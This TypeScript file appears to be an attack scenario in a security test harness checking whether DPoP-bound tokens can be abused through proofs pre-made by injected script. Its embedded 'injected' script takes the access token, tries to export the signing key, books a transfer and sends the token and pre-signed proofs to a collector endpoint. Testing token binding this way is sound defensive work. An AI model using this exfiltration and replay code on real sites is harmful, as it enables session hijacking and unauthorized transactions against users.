import type { Credential } from '../../exchange.ts';
import type { Attack, Judgement } from '../../kinds/attack.ts';
import { openBrowser } from '../../kit/pages/browsing.ts';
import { bindsKeys, withProof } from '../../kit/tokens/proof-attempts.ts';
import { seconds } from '../../kit/tokens/proof-key.ts';
import { endedBy } from '../../kit/windows/bound.ts';
import { acceptedFor, longestAccessMs, type ObservedWindow } from '../../kit/windows/window.ts';
import type { Stage } from '../../stage.ts';

type Seen = {
  /** What became of the key itself: a key that pages keep as WebCrypto does cannot be exported. */
  readonly keyTaken: boolean;
  /** Transfers that the script made while the page was open: nothing of a key stops that. */
  readonly riddenInPage: boolean;
  /** Proofs that it made in advance, some for each second to come. */
  readonly proofs: number;
  /** Whether the token was good without any of them, once the tab was closed. */
  readonly tokenAlone: boolean;
  /** Use of the proofs from elsewhere, each once, from the end of the tab on. */
  readonly use: ObservedWindow;
};

/** What the script could carry away: more than anybody needs until the token itself ends. */
interface Taken {
  readonly key?: unknown;
  readonly token: string;
  readonly ridden: number;
  readonly proofs: readonly { readonly iat: number; readonly proof: string; readonly bare: string }[];
}

/** As many as the thief can use, one after the other. */
const proofsPerSecond = 10;

export default {
  kind: 'attack',
  id: 'dpop-premade-proofs',
  title: 'Proofs made in advance by injected script',
  question: 'For how long is a proof good that an injected script made in advance, once the tab is closed?',
  goal: 'Use a token from elsewhere whose key cannot be stolen, with proofs that were made while the page was open.',
  precondition: 'injected-script',
  severity: 'high',
  references: ['CWE-79', 'CWE-294', 'RFC 9449 §8', 'RFC 9449 §11.2', 'RFC 9449 §11.4', 'RFC 10017 §5.1'],
  steps: [
    'The victim signs in at the application, in a real browser. Its page has a key of WebCrypto that cannot be exported, and keeps it in IndexedDB.',
    'A script in that page takes the token, tries to export the key, asks for a transfer, and makes proofs for every moment until the token ends, with the nonce that is good now and with none. It sends all of it to another site.',
    'The tab and the browser are closed.',
    'The thief asks who they are, with the token alone, and every 100 ms with another one of the proofs that is of this moment, until ten refusals in a row.',
  ],
  fix: 'Require in each proof a nonce of the server that cannot be guessed and ends soon: a time alone lets proofs be made in advance.',
  controls: ['dpop-time-by-clock'],
  needs: { hooks: ['browser', 'effects'], settings: { nonceMs: 1_500, accessMs: 9_000 } },
  appliesTo: bindsKeys,
  expected: () => 'window',

  async attempt(stage) {
    const { taken, closedAt } = await visited(stage);
    const as: Credential = { access: { role: 'access', values: { token: taken.token } } };
    const request = stage.request('me', { as });
    const isVictim = async (dpop?: string) => {
      const reply = await stage.send(dpop ? withProof(request, dpop) : request, { step: 'me', captured: true });
      return reply.subject === stage.victim.id;
    };
    const tokenAlone = await isVictim();
    const left = [...taken.proofs];
    const ask = async () => {
      // the one whose time is nearest, since some servers look at that
      const at = left.reduce((best, { iat }, i) => (distance(iat) < distance(left[best]?.iat ?? 0) ? i : best), 0);
      const [one] = left.splice(at, 1);
      return one !== undefined && ((await isVictim(one.proof)) || isVictim(one.bare));
    };
    const waitedMs = performance.now() - closedAt;
    const use = await acceptedFor(stage, longestAccessMs(stage.target.settings), ask);
    return {
      keyTaken: taken.key !== undefined && taken.key !== null,
      riddenInPage: taken.ridden === 200,
      proofs: taken.proofs.length,
      tokenAlone,
      use: { ...use, lastAcceptedMs: use.accepted === 0 ? 0 : Math.round(use.lastAcceptedMs + waitedMs) },
    };
  },

  judge({ keyTaken, riddenInPage, proofs, tokenAlone, use }, { settings }): Judgement {
    const { declaredMs, bound } = endedBy(nonceEnd, settings);
    const measured = { windowMs: use.lastAcceptedMs, declaredMs, bound };
    const counts = { tries: proofs, successes: use.accepted };
    if (keyTaken) return { ...counts, outcome: 'succeeded', because: 'the script exported the key' };
    if (tokenAlone) return { ...counts, outcome: 'succeeded', because: 'the token was good without a proof' };
    if (!riddenInPage || proofs === 0)
      return { ...counts, outcome: 'inconclusive', because: 'the script could not act in the page at all' };
    const inPage = 'a transfer in the page, which no key stops, was booked';
    if (use.lastAcceptedMs > declaredMs + slackMs)
      return {
        ...counts,
        ...measured,
        outcome: 'succeeded',
        because: `proofs made in advance were good for ${use.lastAcceptedMs} ms after the tab was closed, where a nonce ends after ${declaredMs} ms at most; ${inPage}`,
      };
    if (use.accepted === 0)
      return {
        ...counts,
        outcome: 'inconclusive',
        because: `none of ${proofs} proofs was good any more when the tab was closed: whether any would have been is not known`,
      };
    return {
      ...counts,
      ...measured,
      outcome: 'window',
      because: `${use.accepted} proofs made in advance were good, for ${use.lastAcceptedMs} ms after the tab was closed, of ${declaredMs} ms allowed; the key could not be exported, the token alone was worth nothing, and ${inPage}`,
    };
  },
} satisfies Attack<Seen>;

/** A nonce is handed out for one step of time and good in the next one too. */
const nonceEnd = { lifetimes: { nonceMs: 2 } };

/** Between the last use that was accepted and the answer to it. */
const slackMs = 500;

function distance(iat: number): number {
  return Math.abs(iat - seconds());
}

async function visited(stage: Stage): Promise<{ readonly taken: Taken; readonly closedAt: number }> {
  const { protocol, settings } = stage.target;
  const { username, password } = stage.victim;
  const browser = await openBrowser(stage);
  try {
    const tab = await browser.open('app');
    const { transfer, me, login } = protocol.steps;
    await tab.run(page, { login: login.path, username, password });
    await tab.run(injected, {
      ...{ collector: browser.collector, transfer: transfer?.path ?? '', me: me.path },
      count: Math.ceil((proofsPerSecond * longestAccessMs(settings)) / 1_000),
      perSecond: proofsPerSecond,
    });
    const parts: Partial<Taken>[] = browser.collected().map((text) => JSON.parse(text));
    const proofs = parts.flatMap((part) => part.proofs ?? []);
    const { key, token = '', ridden = 0 } = parts.at(-1) ?? {};
    return { taken: { key, token, ridden, proofs }, closedAt: performance.now() };
  } finally {
    await browser[Symbol.asyncDispose]();
  }
}

/** The application: it signs in with a key of its own, and keeps that as a database keeps objects, not as text. */
const page = `
  const base64url = (bytes) => btoa(String.fromCharCode(...new Uint8Array(bytes)))
    .replaceAll('+', '-').replaceAll('/', '_').replaceAll('=', '');
  const text = (value) => base64url(new TextEncoder().encode(typeof value === 'string' ? value : JSON.stringify(value)));
  const ecdsa = { name: 'ECDSA', namedCurve: 'P-256' };
  const pair = await crypto.subtle.generateKey(ecdsa, false, ['sign', 'verify']);
  const { kty, crv, x, y } = await crypto.subtle.exportKey('jwk', pair.publicKey);
  const kept = { pair, jwk: { kty, crv, x, y }, token: undefined, nonce: undefined };
  const prove = async (method, path, { iat = Math.floor(Date.now() / 1000), nonce = kept.nonce } = {}) => {
    // of no nonce, nothing is said
    const ath = kept.token && base64url(await crypto.subtle.digest('SHA-256', new TextEncoder().encode(kept.token)));
    const claims = { jti: crypto.randomUUID(), htm: method, htu: location.origin + path, iat, nonce: nonce ?? undefined, ath };
    const input = text({ typ: 'dpop+jwt', alg: 'ES256', jwk: kept.jwk }) + '.' + text(claims);
    const hash = { name: 'ECDSA', hash: 'SHA-256' };
    return input + '.' + base64url(await crypto.subtle.sign(hash, pair.privateKey, new TextEncoder().encode(input)));
  };
  const ask = async (method, path, body) => {
    const headers = {
      dpop: await prove(method, path),
      ...(kept.token && { authorization: 'DPoP ' + kept.token }),
      ...(body && { 'content-type': 'application/json' }),
    };
    const answer = await fetch(path, { method, headers, ...(body && { body: JSON.stringify(body) }) });
    kept.nonce = answer.headers.get('dpop-nonce') ?? kept.nonce;
    return answer;
  };
  const answer = await ask('POST', given.login, { username: given.username, password: given.password });
  kept.token = (await answer.json()).access_token;
  const opening = indexedDB.open('keys', 1);
  await new Promise((done, fail) => {
    opening.onupgradeneeded = () => opening.result.createObjectStore('keys');
    opening.onerror = fail;
    opening.onsuccess = done;
  });
  await new Promise((done, fail) => {
    const storing = opening.result.transaction('keys', 'readwrite').objectStore('keys').put(pair, 'dpop');
    storing.onsuccess = done;
    storing.onerror = fail;
  });
  globalThis.application = { ask, prove, kept };`;

/** It finds whatever the page finds, and signs with the key as the page does. */
const injected = `
  const { ask, prove, kept } = globalThis.application;
  const opening = indexedDB.open('keys', 1);
  await new Promise((done) => { opening.onsuccess = done; });
  const reading = opening.result.transaction('keys').objectStore('keys').get('dpop');
  await new Promise((done) => { reading.onsuccess = done; });
  const key = await crypto.subtle.exportKey('jwk', reading.result.privateKey).catch(() => undefined);
  const ridden = (await ask('POST', given.transfer)).status;
  await ask('GET', given.me);
  const now = Math.floor(Date.now() / 1000);
  const proofs = await Promise.all(Array.from({ length: given.count }, async (_, i) => {
    const iat = now + Math.floor(i / given.perSecond);
    const [proof, bare] = [await prove('GET', given.me, { iat }), await prove('GET', given.me, { iat, nonce: null })];
    return { iat, proof, bare };
  }));
  const send = (taken) => fetch(given.collector, { method: 'POST', mode: 'no-cors', body: JSON.stringify(taken) });
  while (proofs.length > 0) await send({ proofs: proofs.splice(0, 20) });
  await send({ key, token: kept.token, ridden });`;
